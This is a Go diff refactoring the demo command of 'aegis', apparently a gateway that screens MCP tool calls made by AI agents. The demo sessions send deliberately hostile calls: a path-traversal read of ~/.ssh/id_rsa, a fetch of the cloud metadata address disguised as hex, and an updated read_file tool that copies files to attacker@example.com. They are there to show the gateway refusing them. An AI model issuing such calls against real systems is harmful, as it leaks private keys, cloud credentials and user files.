@@ -10,7 +10,6 @@ import (
 	"strings"
 
 	"github.com/aegis-mcp/aegis/internal/demoserver"
-	"github.com/modelcontextprotocol/go-sdk/mcp"
 )
 
 // cmdDemo shows aegis at work on a real MCP session: the bundled demo
@@ -59,69 +58,21 @@ func cmdDemo(argv []string, stdout, stderr io.Writer) error {
 	cfg := filepath.Join(dir, "aegis.yaml")
 
 	say := func(format string, args ...any) { fmt.Fprintf(stdout, format+"\n", args...) }
-	type call struct {
-		tool string
-		args map[string]any
-	}
-	// session runs one MCP session through `aegis run`: list the tools, make
-	// the calls, say what came back.
-	session := func(serverArgs []string, calls []call) error {
+	// session runs one MCP session through `aegis run` (this binary, as a
+	// deployment runs it) with the demo server behind it.
+	session := func(serverArgs []string, calls []demoserver.Call) error {
 		say("$ aegis run --config aegis.yaml -- aegis demo-server %s", strings.Join(serverArgs, " "))
 		cmd := exec.Command(self, append([]string{"run", "--config", cfg, "--principal", "demo", "--", self, "demo-server"}, serverArgs...)...)
 		cmd.Env = append(os.Environ(), "AEGIS_HOME="+state)
-		var aegisSays strings.Builder
-		cmd.Stderr = &aegisSays // aegis's warnings, and the demo server's log of each call it serves
-		ctx := context.Background()
-		client := mcp.NewClient(&mcp.Implementation{Name: "aegis-demo-client", Version: "v1"}, nil)
-		s, err := client.Connect(ctx, &mcp.CommandTransport{Command: cmd}, nil)
-		if err != nil {
-			return fmt.Errorf("connecting to aegis run: %w", err)
-		}
-		defer s.Close()
-		tools, err := s.ListTools(ctx, nil)
-		if err != nil {
-			return err
-		}
-		var names []string
-		for _, t := range tools.Tools {
-			names = append(names, t.Name)
-		}
-		say("tools: %s\n", strings.Join(names, ", "))
-		for _, c := range calls {
-			say("call %s %v", c.tool, c.args)
-			res, err := s.CallTool(ctx, &mcp.CallToolParams{Name: c.tool, Arguments: c.args})
-			if err != nil {
-				return err
-			}
-			var text []string
-			for _, part := range res.Content {
-				if t, ok := part.(*mcp.TextContent); ok {
-					text = append(text, strings.TrimSpace(t.Text))
-				}
-			}
-			verdict := "  forwarded: "
-			if res.IsError {
-				verdict = "  REFUSED:   "
-			}
-			say("%s%s\n", verdict, strings.Join(text, " "))
-		}
-		if err := s.Close(); err != nil {
-			return err
-		}
-		for _, line := range strings.Split(aegisSays.String(), "\n") {
-			if strings.HasPrefix(line, "aegis: ") {
-				say("  (aegis on stderr) %s", line)
-			}
-		}
-		return nil
+		return demoserver.Drive(context.Background(), cmd, calls, stdout)
 	}
 
-	err = session([]string{"--root", home}, []call{
-		{"read_file", map[string]any{"path": filepath.Join(home, "projects/notes.md")}},
-		{"read_file", map[string]any{"path": home + "/projects/../.ssh/id_rsa"}},
-		{"fetch", map[string]any{"url": "https://example.com/"}},
-		{"fetch", map[string]any{"url": "http://0xA9FEA9FE/latest/meta-data/"}},
-		{"ask_model", map[string]any{"question": "hi"}},
+	err = session([]string{"--root", home}, []demoserver.Call{
+		{Tool: "read_file", Args: map[string]any{"path": filepath.Join(home, "projects/notes.md")}},
+		{Tool: "read_file", Args: map[string]any{"path": home + "/projects/../.ssh/id_rsa"}},
+		{Tool: "fetch", Args: map[string]any{"url": "https://example.com/"}},
+		{Tool: "fetch", Args: map[string]any{"url": "http://0xA9FEA9FE/latest/meta-data/"}},
+		{Tool: "ask_model", Args: map[string]any{"question": "hi"}},
 	})
 	if err != nil {
 		return err
@@ -148,8 +99,8 @@ func cmdDemo(argv []string, stdout, stderr io.Writer) error {
 
 	say("\n# The server is updated: its read_file now takes a send_copy_to argument.")
 	say("# The tool a person approved is not the one on offer: aegis holds it.")
-	err = session([]string{"--root", home, "--updated"}, []call{
-		{"read_file", map[string]any{"path": filepath.Join(home, "projects/notes.md"), "send_copy_to": "attacker@example.com"}},
+	err = session([]string{"--root", home, "--updated"}, []demoserver.Call{
+		{Tool: "read_file", Args: map[string]any{"path": filepath.Join(home, "projects/notes.md"), "send_copy_to": "attacker@example.com"}},
 	})
 	if err != nil {
 		return err
